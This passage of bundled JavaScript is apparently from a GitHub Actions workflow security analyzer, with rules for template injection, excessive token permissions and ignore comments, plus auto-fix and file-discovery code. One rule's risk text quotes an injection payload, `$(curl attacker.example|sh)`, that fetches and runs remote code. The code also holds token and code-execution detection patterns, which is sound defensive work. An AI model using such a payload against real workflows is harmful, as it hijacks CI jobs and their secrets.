        ? step.run.script
        : (0,lib_shell/* parseScript */.tl)(scalar.value, shell, (0,model/* expressionsIn */.l$)(scalar));
    if (isPartOfName(embedded, shell, script))
        return null;
    const variable = variableFor(embedded, expression, step);
    if (!variable || (!variable.isProvided && isSharedText(scalar, step.map, rootOf(step))))
        return null;
    const replacement = referenceAt(embedded, variable.name, shell, script, wordCount(expression, step));
    if (!replacement)
        return null;
    const edit = replaceInScalar(scalar, replacement);
    const declare = variable.isSet ? null : declareVariable(step, variable.name, embedded.text);
    if (!edit || (!variable.isSet && !declare))
        return null;
    return {
        description: `hand the value over in the variable \`${variable.name}\``,
        safe: replacement.isSafe && keepsVariables(step),
        edits: declare ? [edit, declare] : [edit],
    };
}
function rootOf({ owner }) {
    return owner.kind === "composite" ? owner.root : owner.workflow.root;
}
/** The beginning of a variable, `$NAME_` or `${NAME_`, at the end of a text. */
const POSIX_NAME = /\$(?:\{[#!]?\w*|[A-Za-z_]\w*)?$/;
const POWERSHELL_NAME = /\$(?:\{[\w:]*|[A-Za-z_][\w:]*)?$/;
const NAMES = {
    bash: POSIX_NAME,
    sh: POSIX_NAME,
    pwsh: POWERSHELL_NAME,
    powershell: POWERSHELL_NAME,
    javascript: /\$(?:\{\w*)?$/,
};
/** `$${{ … }}`, `${TOKEN_${{ … }}}` build the name of a variable, such as PowerShell's `$true`. */
function isPartOfName({ start }, shell, { text }) {
    const before = text.slice(Math.max(0, start - 300), start).replace(/\$\{\{.*?\}\}/g, "x");
    return NAMES[shell]?.test(before) ?? false;
}
/** Is the script surely read by the shell that it seems to be for, with the step's variables? */
function keepsVariables(step) {
    if (!step.run)
        return true;
    const { from, node } = step.shell;
    return from !== "unknown" && !/\b(?:sudo|env|su|doas)\b/.test(node?.value ?? "");
}
// ---- the reference -------------------------------------------------------------------------------------------------
function referenceAt(embedded, name, shell, script, words) {
    const { start, end } = embedded;
    const whole = { start, end, isSafe: true };
    switch (shell) {
        case "bash":
        case "sh":
            return shellReference(embedded, name, script, words);
        case "pwsh":
        case "powershell":
            return powershellReference(embedded, name, script, words);
        case "python": {
            const literal = script.strings.find((string) => string.body.start === start && string.body.end === end);
            if ((literal?.kind !== "string" && literal?.kind !== "raw-string") || hasNeighbour(script.text, literal))
                return null;
            if (isInCasePattern(script.text, literal))
                return null;
            // A field of an f-string may not hold the quotes of the f-string before Python 3.12.
            if (script.strings.some((outer) => outer.start < literal.start && literal.end < outer.end))
                return null;
            return { ...whole, ...inPlaceOf(literal, `__import__("os").environ["${name}"]`, script.text) };
        }
        case "javascript":
            return javascriptReference(embedded, name, script);
        default:
            return null;
    }
}
function shellReference(embedded, name, script, words) {
    const { start, end } = embedded;
    const fate = fateOf(script, start);
    if (fate === "code")
        return null;
    const whole = { start, end, isSafe: fate === "data" };
    const quoting = script.quotingAt(start);
    if (quoting !== "single" && isEscapedInShell(script.text, start))
        return null;
    switch (quoting) {
        case "double":
        case "heredoc":
            return { ...whole, text: `\${${name}}` };
        case "single":
            // Alone in its quotes it takes their place; else they are closed before it and opened again behind it.
            return isAloneInQuotes(script, embedded)
                ? { ...whole, start: start - 1, end: end + 1, text: `"\${${name}}"` }
                : { ...whole, text: `'"\${${name}}"'` };
        case "none":
            if (!isArgument(script, start) || isRegularExpression(script.text, start))
                return null;
            return unquotedReference({ ...whole, text: `\${${name}}` }, script, words);
        default:
            return null;
    }
}
/** Backticks take backslashes off once more. */
function isEscapedInShell(text, offset) {
    return isEscaped(text, offset, "\\") || (text[offset - 1] === "\\" && text.includes("`"));
}
/** Behind an escape character the sign of a variable is a plain character; two of them are one that is meant as such. */
function isEscaped(text, offset, character) {
    let count = 0;
    while (text[offset - 1 - count] === character)
        count++;
    return count % 2 === 1;
}
/** Behind `=~` quotes would make a plain text of it, and without them it still would be what an attacker wants. */
function isRegularExpression(text, offset) {
    return /=~\s+\S*$/.test(text.slice(Math.max(0, offset - 200), offset));
}
/**
 * Quotes keep a value as one word, which is the same for one that is a word anyway. Another may be meant as several words
 * or as none (`${{ inputs.extra-args }}`), or as a pattern in `[[ ]]`: there it stands without quotes, which gives what the
 * text gave. In `[ ]` a missing word would be an error, and a part of a word is better not split.
 */
function unquotedReference(replacement, script, words) {
    const { start, end, text } = replacement;
    const quoted = { ...replacement, text: `"${text}"` };
    if (isSameAsOneWord(words, replacement, script))
        return quoted;
    const test = testAround(script, start);
    const keepsWords = test === "[[" || (test === undefined && isWholeArgument(script, start, end));
    return { ...(keepsWords ? replacement : quoted), isSafe: false };
}
const PART_OF_WORD = /[^\s;&|()<>`]/;
/** A part of a word may be empty; where nothing stands around it, nothing was there. */
function isSameAsOneWord(words, { start, end }, { text }) {
    if (words !== "one or none")
        return words === "one";
    return PART_OF_WORD.test(text.charAt(start - 1)) || PART_OF_WORD.test(text.charAt(end));
}
const TESTS = new Set(["[", "[[", "test"]);
/** The test command that an offset is an argument of. */
function testAround({ commands }, offset) {
    const test = commands.find(({ name, args }) => TESTS.has(name?.literal ?? "") && args.some(({ start, end }) => start <= offset && offset < end));
    return test?.name?.literal;
}
function isWholeArgument(script, start, end) {
    return script.commands.some(({ args }) => args.some((word) => word.start === start && word.end === end));
}
function isAloneInQuotes({ text }, { start, end }) {
    return text[start - 1] === "'" && text[end] === "'";
}
function powershellReference(embedded, name, script, words) {
    const { start, end } = embedded;
    const fate = fateOf(script, start);
    if (fate === "code" || isEscaped(script.text, start, "`"))
        return null;
    const whole = { start, end, isSafe: fate === "data" };
    switch (script.quotingAt(start)) {
        case "double":
        case "here-string-double":
            return { ...whole, text: `\${env:${name}}` };
        case "single":
            // Nothing is expanded in there, so only a literal that holds nothing else can be replaced.
            return isAloneInQuotes(script, embedded)
                ? { ...whole, start: start - 1, end: end + 1, text: `"\${env:${name}}"` } // an empty variable alone is `$null`
                : null;
        case "none": {
            if (!isArgument(script, start) || !isPlainBehind(script, end))
                return null;
            const isSafe = whole.isSafe && isSameAsOneWord(words, whole, script);
            return { ...whole, isSafe, text: `\${env:${name}}` };
        }
        default:
            return null;
    }
}
/** `.`, `[`, `(` and `:` behind a variable would be read as a member of it, and `,` as the next item of a list. */
function isPlainBehind({ text }, end) {
    return /^[\w\s/\\);|}$-]?$/.test(text.charAt(end));
}
function javascriptReference(embedded, name, script) {
    const { start, end, expression } = embedded;
    const literal = script.strings.find((string) => string.start < start && end < string.end);
    if (!literal || IS_GIVEN_TO_LOADER.test(script.text.slice(Math.max(0, literal.start - 100), literal.start)))
        return null;
    // What `toJSON` escapes, the program's string literal unescaped again.
    const isVerbatim = expression !== undefined && !(0,expressions/* dataflow */.z5)(expression).some(({ throughToJson }) => throughToJson);
    const isSafe = isVerbatim && !RUNS_JAVASCRIPT.test(script.text);
    const whole = { start, end, isSafe };
    if (literal.kind === "template" && script.quotingAt(start) === "template") {
        if (isEscaped(script.text, start, "\\"))
            return null;
        return { ...whole, text: `\${process.env.${name}}` };
    }
    if (literal.body.start !== start || literal.body.end !== end || isKey(script.text, literal))
        return null;
    return { ...whole, ...inPlaceOf(literal, `process.env.${name}`, script.text) };
}
/** A reference instead of a literal; a quote ends the word before it, which a reference doesn't (`return'X'`). */
function inPlaceOf({ start, end }, reference, text) {
    const before = /[\w$]/.test(text.charAt(start - 1)) ? " " : "";
    const behind = /[\w$]/.test(text.charAt(end)) ? " " : "";
    return { start, end, text: before + reference + behind };
}
/** Functions that run, or load, what they are given. */
const RUNS_JAVASCRIPT = /\b(?:eval|Function|exec\w*|spawn\w*|fork|setTimeout|setInterval|runIn\w*|compileFunction)\s*\(|\b(?:require|import)\s*\(\s*[^'"\s]/;
const IS_GIVEN_TO_LOADER = /\b(?:eval|Function|require|import|exec\w*|spawn\w*|getExecOutput)\s*\(\s*$|\b(?:from|import)\s*$/;
/** `{"text": 1}`, `{"text"() {}}`, `class { "text" = 1 }`: a reference can't stand where a key does. */
function isKey(text, literal) {
    if (/^\s*(?:\(|=(?!=))/.test(text.slice(literal.end, literal.end + 20)))
        return true;
    return (/^\s*:/.test(text.slice(literal.end, literal.end + 20)) &&
        /[{,]\s*$/.test(text.slice(Math.max(0, literal.start - 200), literal.start)));
}
/** Python joins literals that stand side by side; a call can't. */
function hasNeighbour(text, literal) {
    return (/["']\s*$/.test(text.slice(Math.max(0, literal.start - 200), literal.start)) ||
        /^\s*[rbfuRBFU]{0,2}["']/.test(text.slice(literal.end, literal.end + 200)));
}
/** `case 'text':`, or a pattern of several lines: no call can stand there. The rest of such a line is left alone, too. */
function isInCasePattern(text, { start }) {
    return /(?:^|\n)[ \t]*case\b(?![ \t]*[=.])(?:[^\n]*|[^:]*)$/.test(text.slice(Math.max(0, start - 500), start));
}
const NO_COMMAND = /^(?:case|do|elif|else|for|function|if|select|then|until|while)$/;
const PLAIN_WORDS = /^[ \t]*([\w./-]+)(?:[ \t]+[\w./:=,@%+-]+)*[ \t]+(?:[\w./:-]+=)?$/;
/** `command word --option=` before an offset, on a line of its own: that needs no parser to be seen as an argument. */
function followsPlainWords(text, offset) {
    const lineStart = text.lastIndexOf("\n", offset - 1) + 1;
    if (offset - lineStart > 200 || text[lineStart - 2] === "\\")
        return false;
    const command = PLAIN_WORDS.exec(text.slice(lineStart, offset))?.[1];
    return command !== undefined && !NO_COMMAND.test(command);
}
/** An argument, a redirect's target or a plain assignment: places where a quoted variable may stand. */
function isArgument(script, offset) {
    if (followsPlainWords(script.text, offset))
        return true;
    return script.commands.some((command) => command.args.some((word) => word.start <= offset && offset < word.end) ||
        command.redirects.some(({ target }) => target !== undefined && target.start <= offset && offset < target.end) ||
        command.assignments.some((assignment) => assignment.values.length === 1 &&
            assignment.start <= offset &&
            offset < assignment.end &&
            !isArray(script, assignment)));
}
function isArray(script, assignment) {
    return script.text.slice(assignment.start, assignment.end).includes("=(");
}
/** Contexts that the runner hands to every script as variables. */
const PROVIDED = new Set([
    "github.actor",
    "github.base_ref",
    "github.event_name",
    "github.head_ref",
    "github.ref",
    "github.ref_name",
    "github.repository",
    "github.run_id",
    "github.sha",
    "github.workflow",
]);
function variableFor(embedded, expression, step) {
    const path = (0,expressions/* contextPath */.VJ)(expression);
    const dotted = path?.segments.join(".") ?? "";
    if (path?.exact && PROVIDED.has(dotted))
        return { name: dotted.replace(".", "_").toUpperCase(), isSet: true, isProvided: true };
    if (path?.exact && path.segments[0] === "env" && path.segments.length === 2)
        return existing(path.segments[1], step);
    const contexts = (0,expressions/* references */.Ft)(expression);
    const [first] = contexts;
    if (!first || contexts.some((context) => isSetBeside(context, step)))
        return null;
    const readsEnv = contexts.some(({ segments }) => segments[0] === "env");
    const base = nameFor(first.segments);
    for (let n = 1; n < 10; n++) {
        const name = n === 1 ? base : `${base}_${n}`;
        const entry = step.variable(name);
        if (!readsEnv && entry?.value?.value === embedded.text)
            return { name: entry.name, isSet: true };
        // A variable of the script's own, or one that an earlier step set, may have that name.
        if (!entry && !isTaken(name, embedded, step))
            return { name, isSet: false };
    }
    return null;
}
/** `env.X` where the step's own `env:` sets `X`: the values of a block don't see each other. */
function isSetBeside({ segments, exact }, { env }) {
    if (segments[0] !== "env" || !env)
        return false;
    const [, name] = segments;
    return !exact || name === undefined || env.dynamic !== undefined || env.get(name) !== undefined;
}
/** The script, or another of its job, has a variable of that name already. */
function isTaken(name, { scalar }, { owner }) {
    if (assignedIn(owner).has(name))
        return true;
    const isMentioned = scalar.value.toUpperCase().includes(name);
    return isMentioned && new RegExp(`(?<!\\w)${name}(?!\\w)`, "i").test(scalar.value);
}
const assigned = new WeakMap();
/** The names that scripts of a job or action assign, to the environment of later steps too. */
function assignedIn(owner) {
    let names = assigned.get(owner);
    if (!names) {
        const scripts = owner.steps.flatMap(({ run }) => (run?.scalar.mayContain("=") ? [run.text] : []));
        names = new Set(scripts.flatMap((text) => Array.from(text.matchAll(/\b([A-Z_][A-Z0-9_]*)=/g), ([, name]) => name)));
        assigned.set(owner, names);
    }
    return names;
}
/** `env.X` is a variable of the script as it is, if an `env:` block sets it. */
function existing(name, step) {
    const entry = step.variable(name);
    return entry && /^[A-Za-z_]\w*$/.test(entry.name) ? { name: entry.name, isSet: true } : null;
}
/** `github.event.pull_request.title` → `PULL_REQUEST_TITLE`; names that begin with `GITHUB_` are the runner's own. */
function nameFor(segments) {
    const words = segments[0] === "github" ? segments.slice(segments[1] === "event" ? 2 : 1) : segments;
    const name = words
        .filter((word) => word !== "*")
        .join("_")
        .replace(/\W/g, "_")
        .toUpperCase();
    return /^[A-Z_]/.test(name) && !/^(?:GITHUB|RUNNER|ACTIONS)_/.test(name) && name !== "PATH" ? name : `VALUE_${name}`;
}
function declareVariable(step, name, text) {
    const block = step.env?.map;
    const isFlow = block ? block.flow : step.map.flow;
    const isPlain = !isFlow && !/: |\s#|["\n]/.test(text);
    const after = step.map.entry("run") ?? step.map.entry("with");
    return setIn(step.map, "env", name, isPlain ? text : JSON.stringify(text), after);
}
// ---- the edit ------------------------------------------------------------------------------------------------------
/** Writes the replacement in the style of the scalar, so that its value holds just that text. */
function replaceInScalar(scalar, { start, end, text }) {
    const span = scalar.spanOf(start, end);
    if (scalar.style === "double")
        return { ...span, text: JSON.stringify(text).slice(1, -1) };
    if (scalar.style === "single")
        return { ...span, text: text.replaceAll("'", "''") };
    return { ...span, text };
}

;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/trust/holdings.js

const holdings_cache = new WeakMap();
function holdingsOf(job) {
    let holdings = holdings_cache.get(job);
    if (!holdings) {
        holdings = readHoldings(job);
        holdings_cache.set(job, holdings);
    }
    return holdings;
}
function readHoldings(job) {
    const { permissions } = job.effectivePermissions;
    const writes = permissions?.writes ?? [];
    const secrets = secretsOf(job);
    return {
        secrets: [...secrets.names].sort(),
        mayHoldAnySecret: secrets.isOpen,
        writes: writes.filter((scope) => scope !== "id-token"),
        hasDefaultToken: permissions === null,
        hasIdentity: writes.includes("id-token"),
    };
}
/** No secret, no write scope and no identity: there is little to gain. */
function holdsNothing(holdings) {
    return (holdings.secrets.length === 0 &&
        !holdings.mayHoldAnySecret &&
        holdings.writes.length === 0 &&
        !holdings.hasDefaultToken &&
        !holdings.hasIdentity);
}
function secretsOf(job) {
    const found = { names: new Set(), isOpen: job.kind === "reusable" && job.inheritsSecrets };
    for (const name of [job.map, job.workflow.env?.entry.value].flatMap((node) => node ? secretsNamedBelow(node) : [])) {
        if (name === "*")
            found.isOpen = true;
        else if (name.toLowerCase() !== "github_token")
            found.names.add(name.toUpperCase());
    }
    return found;
}

;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/rules/injection/template-injection.js








/* harmony default export */ const template_injection = (defineRule({
    id: "template-injection",
    category: "injection",
    severity: "high",
    isZizmor: true,
    fixes: "both",
    summary: "Text that others write is expanded into a script",
    risk: "The runner pastes the text into the script before the shell reads it. A pull request titled `$(curl attacker.example|sh)` is then a command in your job, with its token and its secrets.",
    mend: 'Hand the value over in `env:` and read the variable in the script, in double quotes: `echo "${TITLE}"`.',
    sources: [
        "https://docs.github.com/actions/concepts/security/script-injections",
        "https://securitylab.github.com/resources/github-actions-untrusted-input/",
    ],
    examples: { flagged: [], silent: [] },
    run(run, report) {
        template_injection_judge(run.scalar, run.shell, run.step, report);
    },
    uses({ uses, step }, report) {
        if (!step || uses.target.kind !== "repository" || !step.with)
            return;
        const name = (0,model/* nameOf */.Vb)(uses.target);
        for (const input of codeInputsOf(name)) {
            const value = step.input(input)?.value;
            if (value?.kind === "scalar")
                template_injection_judge(value, languageOf(name), step, report);
        }
    },
}));
const LANGUAGES = {
    bash: "a shell script",
    sh: "a shell script",
    pwsh: "a PowerShell script",
    powershell: "a PowerShell script",
    cmd: "a batch script",
    python: "a Python program",
    javascript: "a JavaScript program",
    unknown: "code",
};
function template_injection_judge(scalar, shell, step, report) {
    for (const embedded of (0,model/* expressionsIn */.l$)(scalar)) {
        const { expression } = embedded;
        if (!expression)
            continue;
        const rating = rateExpression(expression, step);
        if (rating.persona === "pedantic" && report.persona === "regular")
            continue;
        speak(embedded, rating, shell, step, report);
    }
}
function speak(embedded, rating, shell, step, report) {
    const language = isShellSure(embedded.scalar, step) ? LANGUAGES[shell] : "a script";
    const cause = rating.node
        ? `\`${template_injection_asWritten(embedded, rating.node)}\` is ${rating.why}, and it is`
        : "An expression is";
    const isNeverSet = rating.persona === "regular" && !isSetBy(rating.source, step);
    const note = isNeverSet ? " (none of the workflow's events sets it)" : "";
    report({ file: embedded.file, ...embedded.spanOf() }, `${cause} expanded into ${language}${note}`, {
        severity: hasLittleToLose(step) ? (0,lib/* lowered */.DM)(rating.severity) : rating.severity,
        confidence: isNeverSet ? "low" : rating.confidence,
        persona: rating.persona,
        fix: rating.source === "" ? null : handOverThroughEnv(embedded, shell, step),
    });
}
/** Code of an action has one language; which shell reads a script may depend on a runner that isn't known. */
function isShellSure(scalar, step) {
    if (step.run?.scalar !== scalar)
        return true;
    const { from } = step.shell;
    return from !== "mixed" && from !== "unknown";
}
function template_injection_asWritten({ scalar }, { start, end }) {
    return scalar.value.slice(start, end).replace(/\s+/g, " ");
}
/** The caller decides what a composite action's job holds. */
function hasLittleToLose({ owner }) {
    return owner.kind === "normal" && holdsNothing(holdingsOf(owner));
}

;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/rules/meta/suppression-without-reason.js

/* harmony default export */ const suppression_without_reason = (defineRule({
    id: "suppression-without-reason",
    category: "meta",
    severity: "low",
    summary: "An ignore comment gives no reason, or isn't written as one",
    risk: "Nobody can tell later whether the finding was judged or only silenced, so it is not silenced.",
    mend: "Write why behind the bracket: `# trustchain: ignore[unpinned-uses] vendored mirror, updated by its own job`.",
    examples: { flagged: [], silent: [] },
}));

;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/rules/meta/unreadable-file.js

/* harmony default export */ const unreadable_file = (defineRule({
    id: "unreadable-file",
    category: "meta",
    severity: "high",
    summary: "A file can't be read as GitHub would read it",
    risk: "What can't be read can't be checked: anything may stand in it. GitHub may refuse the file, or read it otherwise than its author meant.",
    mend: "Mend the file at the place that is named. It is UTF-8 text and, but for Dockerfiles, one YAML 1.2 document, with each key once in its mapping and without merge keys (`<<`).",
    sources: [
        "https://yaml.org/spec/1.2.2/",
        "https://docs.github.com/actions/reference/workflows-and-actions/workflow-syntax",
    ],
    examples: { flagged: [], silent: [] },
    repository(repository, report) {
        const told = new Map();
        for (const { file } of repository.unreadable)
            told.set(file.path, (told.get(file.path) ?? 0) + 1);
        for (const { file, start, end, reason } of repository.unreadable) {
            const count = told.get(file.path);
            if (count === undefined)
                continue;
            told.delete(file.path);
            const more = count > 1 ? ` (and ${count - 1} more of its kind)` : "";
            report({ file, start, end }, `This file can't be read: ${reason}${more}`);
        }
    },
}));

;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/rules/meta/unused-suppression.js

/* harmony default export */ const unused_suppression = (defineRule({
    id: "unused-suppression",
    category: "meta",
    severity: "low",
    persona: "pedantic",
    summary: "An ignore comment silences nothing",
    risk: "It would silence a finding that somebody adds to this line one day, without anyone having judged it.",
    mend: "Remove the comment, or mend the rule's id in it.",
    examples: { flagged: [], silent: [] },
}));

;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/trust/token-use.js

/** Actions that use the token for nothing but to read the repository, whatever their inputs are. */
const READERS = new Set([
    "actions/cache",
    "actions/cache/restore",
    "actions/cache/save",
    "actions/checkout",
    "actions/download-artifact",
    "actions/setup-dotnet",
    "actions/setup-go",
    "actions/setup-java",
    "actions/setup-node",
    "actions/setup-python",
    "actions/upload-artifact",
]);
/** The token itself, whole contexts that hold it, and the variables by which an OIDC identity is asked for. */
const TOKEN = /\bgithub\s*\.\s*token\b|github_token|gh_token|\[\s*'token'\s*\]|json\s*\(\s*(?:github|secrets)\s*\)|actions_id_token/i;
/**
 * Is `contents: read` surely enough for a job's token? Only where every step is known, nothing in the job names the
 * token, and no script finds the credential that a checkout leaves behind.
 */
function needsOnlyToRead(job) {
    // What a called workflow asks for must not be more than its callers give, and those can't all be seen.
    if (job.kind === "reusable" || job.workflow.trigger("workflow_call"))
        return false;
    let namesToken = false;
    const look = (text) => {
        namesToken ||= TOKEN.test(text);
    };
    visitScalars(job.map, (scalar) => look(scalar.value));
    const workflowEnv = job.workflow.env?.entry.value;
    if (workflowEnv)
        visitScalars(workflowEnv, (scalar) => look(scalar.value));
    return (!namesToken && job.steps.every(isReader) && !(leavesCredential(job.steps) && job.steps.some((step) => step.run)));
}
function isReader(step) {
    if (step.run)
        return true;
    const { uses } = step;
    return uses?.target.kind === "repository" && READERS.has(uses.text.split("@")[0]?.toLowerCase() ?? "");
}
function leavesCredential(steps) {
    return steps.some((step) => {
        const setting = step.input("persist-credentials")?.value;
        const isOff = setting?.kind === "scalar" && setting.value === "false";
        return step.uses?.is("actions/checkout") === true && !isOff;
    });
}

;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/rules/permissions/excessive-permissions.js



/** What an attacker can do with the scope when it may write; `medium` for scopes that aren't named. */
const SCOPE_SEVERITY = {
    actions: "high",
    attestations: "high",
    contents: "high",
    deployments: "high",
    "id-token": "high",
    issues: "high",
    models: "low",
    packages: "high",
    pages: "high",
    "pull-requests": "high",
    statuses: "low",
};
/* harmony default export */ const excessive_permissions = (defineRule({
    id: "excessive-permissions",
    category: "permissions",
    severity: "medium",
    isZizmor: true,
    fixes: "safe",
    summary: "A token may do more than its job needs",
    risk: "Whatever gets into one step of the job can use the token: an action that was taken over, a dependency's install script, an expression that was expanded into a command. With write rights it changes code, releases and packages.",
    mend: "Write `permissions: {}` at the top of the workflow, and give each job the scopes that it needs.",
    sources: ["https://docs.github.com/actions/reference/workflows-and-actions/workflow-syntax#permissions"],
    examples: { flagged: [], silent: [] },
    workflow(workflow, report) {
        const { permissions } = workflow;
        if (!permissions)
            return;
        const isIrrelevant = workflow.isReusableOnly || workflow.jobs.every((job) => job.permissions);
        const persona = isIrrelevant ? "pedantic" : "regular";
        for (const excess of excessOf(permissions)) {
            const fix = excessive_permissions_fixOf(permissions, inheritingJobs(workflow));
            report(excess.place, excess.message("every job of the workflow"), { severity: excess.severity, persona, fix });
        }
        if (permissions.kind !== "scopes")
            return;
        for (const { scope, level, entry } of permissions.grants) {
            if (level !== "write")
                continue;
            const message = `Every job of the workflow that has no \`permissions\` of its own may write \`${scope}\``;
            const severity = SCOPE_SEVERITY[scope] ?? "medium";
            // With one job the workflow's block says what a job-level one would.
            report(entry.key, message, { severity, persona: workflow.jobs.length === 1 ? "pedantic" : persona });
        }
    },
    job(job, report) {
        judgeJob(job, job.workflow.isReusableOnly ? "pedantic" : "regular", report);
    },
    // The caller decides what a called workflow's token may do, even where the caller is called itself.
    reusableJob(job, report) {
        judgeJob(job, "regular", report);
    },
}));
function judgeJob(job, persona, report) {
    const { permissions } = job;
    if (permissions) {
        for (const excess of excessOf(permissions)) {
            report(excess.place, excess.message(`the job \`${job.id}\``), {
                severity: excess.severity,
                persona,
                fix: excessive_permissions_fixOf(permissions, [job]),
            });
        }
    }
    else if (!job.workflow.permissions) {
        const message = `Nothing limits the token of the job \`${job.id}\`: it has the repository's default rights`;
        report(job.key, message, { confidence: "medium", persona, fix: addReadOnly(job) });
    }
}
function excessOf(permissions) {
    const place = permissions.entry.value;
    if (permissions.kind === "write-all") {
        return [{ place, severity: "high", message: (whose) => `The token of ${whose} may write everything` }];
    }
    if (permissions.kind === "read-all") {
        return [
            {
                place,
                severity: "medium",
                message: (whose) => `The token of ${whose} may read everything, secret-scanning alerts and packages too`,
            },
        ];
    }
    return [];
}
function inheritingJobs(workflow) {
    return workflow.jobs.filter((job) => !job.permissions);
}
function excessive_permissions_fixOf(permissions, jobs) {
    if (permissions.kind === "scopes" || !jobs.every(needsOnlyToRead))
        return null;
    const edit = setValue(permissions.entry, "{contents: read}");
    return edit && { description: "leave only `contents: read`", safe: true, edits: [edit] };
}
/** Sure only where nothing in the job can use more; see `needsOnlyToRead`. */
function addReadOnly(job) {
    if (!needsOnlyToRead(job))
        return null;
    const before = job.map.entries[0];
    const edit = before && insertEntry(job.map, "permissions", { contents: "read" }, before);
    return edit ? { description: "give the job `contents: read` and nothing else", safe: true, edits: [edit] } : null;
}

;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/repository/discover.js




const SKIPPED_FOLDERS = new Set(["node_modules", ".git"]);
const RENOVATE = new Set([
    "renovate.json",
    "renovate.json5",
    ".github/renovate.json",
    ".github/renovate.json5",
    ".renovaterc",
    ".renovaterc.json",
    ".renovaterc.json5",
]);
const CODEOWNERS = new Set(["CODEOWNERS", ".github/CODEOWNERS", "docs/CODEOWNERS"]);
const PACKAGE_CONFIGURATION = new Set([
    ".npmrc",
    ".yarnrc",
    ".yarnrc.yml",
    "bunfig.toml",
    "build.gradle",
    "build.gradle.kts",
    "composer.json",
    "gemfile",
    "go.env",
    "go.mod",
    "nuget.config",
    "pip.conf",
    "pipfile",
    "pnpm-workspace.yaml",
    "pom.xml",
    "pyproject.toml",
    "settings.gradle",
    "settings.gradle.kts",
    "settings.xml",
    "uv.toml",
]);
/** The kind of the file at `path`, or undefined for one that the analysis doesn't care about. */
function kindOf(path) {
    const slash = path.lastIndexOf("/");
    const name = path.slice(slash + 1);
    if (slash === -1 ? false : path.slice(0, slash) === ".github/workflows") {
        if (name === "actions.lock")
            return "actions-lock";
        return /\.ya?ml$/.test(name) ? "workflow" : undefined;
    }
    if (name === "action.yml" || name === "action.yaml")
        return "action";
    if (path === ".github/dependabot.yml" || path === ".github/dependabot.yaml")
        return "dependabot";
    if (RENOVATE.has(path))
        return "renovate";
    if (CODEOWNERS.has(path))
        return "codeowners";
    if (isDockerfile(name))
        return "dockerfile";
    return isPackageConfiguration(path, name) ? "package-configuration" : undefined;
}
/**
 * `Dockerfile`, `app.Dockerfile` and the like, in any case, as Docker and editors have it; but `dockerfile.ts` is a program,
 * and `Dockerfile.dockerignore` a list of files.
 */
function isDockerfile(name) {
    return (/^(?:.*\.)?(?:docker|container)file$/i.test(name) ||
        /^(?:Docker|Container)file\.(?!(?:docker|container)ignore$)./.test(name));
}
function isPackageConfiguration(path, name) {
    const lower = name.toLowerCase();
    return (PACKAGE_CONFIGURATION.has(lower) ||
        (lower.startsWith("requirements") && lower.endsWith(".txt")) ||
        /(?:^|\/)\.cargo\/config(?:\.toml)?$/.test(path) ||
        path.endsWith("gradle/verification-metadata.xml"));
}
/**
 * Finds the files of a repository that the analysis reads, in a fixed order.
 *
 * Links to folders aren't followed, but for `.github` and what it holds; links that leave the repository are never followed.
 */
function discover(root) {
    const found = { files: [], unreachable: [] };
    walk({ root, realRoot: (0,external_node_fs_.realpathSync)(root), found, seen: new Set() }, "");
    found.files.sort((a, b) => (0,lib/* compareText */.n6)(a.path, b.path));
    return found;
}
function walk(state, folder) {
    let entries;
    try {
        entries = (0,external_node_fs_.readdirSync)((0,external_node_path_.join)(state.root, folder), { withFileTypes: true });
    }
    catch (error) {
        state.found.unreachable.push({ path: folder || ".", reason: (0,action_kit_lib/* explain */.WE)(error) });
        return;
    }
    for (const entry of entries) {
        const path = folder === "" ? entry.name : `${folder}/${entry.name}`;
        if (entry.isDirectory()) {
            if (!SKIPPED_FOLDERS.has(entry.name))
                walk(state, path);
        }
        else if (entry.isSymbolicLink()) {
            visitLink(state, path);
        }
        else if (entry.isFile()) {
            addFile(state, path);
        }
    }
}
function addFile(state, path) {
    const kind = kindOf(path);
    if (kind)
        state.found.files.push({ path, kind });
}
function visitLink(state, path) {
    const isGithub = path === ".github" || path.startsWith(".github/");
    if (!isGithub && !kindOf(path))
        return;
    const target = insideTarget(state, path);
    if (!target) {
        state.found.unreachable.push({ path, reason: "it is a link that leads to nothing in this repository" });
        return;
    }
    if (!target.isFolder)
        addFile(state, path);
    else if (isGithub && !state.seen.has(target.real)) {
        state.seen.add(target.real);
        walk(state, path);
    }
}
function insideTarget(state, path) {
    try {
        const real = (0,external_node_fs_.realpathSync)((0,external_node_path_.join)(state.root, path));
        const isInside = real === state.realRoot || real.startsWith(state.realRoot + external_node_path_.sep);
        return isInside ? { real, isFolder: (0,external_node_fs_.statSync)(real).isDirectory() } : undefined;
    }
    catch {
        // A dangling link or a loop names no file.
        return undefined;
    }
}

;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/repository/locate.js


/** Finds the repository that a given path means; undefined when nothing is there. */
function locateRepository(path) {
    const absolute = (0,external_node_path_.resolve)(path);
    const stats = (0,external_node_fs_.statSync)(absolute, { throwIfNoEntry: false });
    if (!stats)
        return undefined;
    if (stats.isDirectory())
        return { root: locate_rootOf(outOfGithub(absolute)), only: null };
    const root = locate_rootOf(outOfGithub((0,external_node_path_.dirname)(absolute)));
    return { root, only: (0,external_node_path_.relative)(root, absolute).replaceAll("\\", "/") };
}
/** The folder that holds `.github`, for paths into it. */
function outOfGithub(folder) {
    if ((0,external_node_path_.basename)(folder) === "workflows" && (0,external_node_path_.basename)((0,external_node_path_.dirname)(folder)) === ".github")
        return (0,external_node_path_.dirname)((0,external_node_path_.dirname)(folder));
    return (0,external_node_path_.basename)(folder) === ".github" ? (0,external_node_path_.dirname)(folder) : folder;
}
/** The nearest folder upwards, in the same git work tree, with `.github` or an action; else the folder itself. */
function locate_rootOf(folder) {
    let candidate;
    for (let at = folder;; at = (0,external_node_path_.dirname)(at)) {
        if (candidate === undefined && isRoot(at))
            candidate = at;
        if ((0,external_node_fs_.existsSync)((0,external_node_path_.join)(at, ".git")))
            return candidate ?? folder;
        // Outside git nothing says where the repository ends.
        if (at === (0,external_node_path_.dirname)(at))
            return folder;
    }
}
/** Does a folder hold what makes it a repository or an action of its own? */
function isRoot(folder) {
    return [".github", "action.yml", "action.yaml"].some((name) => (0,external_node_fs_.existsSync)((0,external_node_path_.join)(folder, name)));
}

// EXTERNAL MODULE: external "node:buffer"
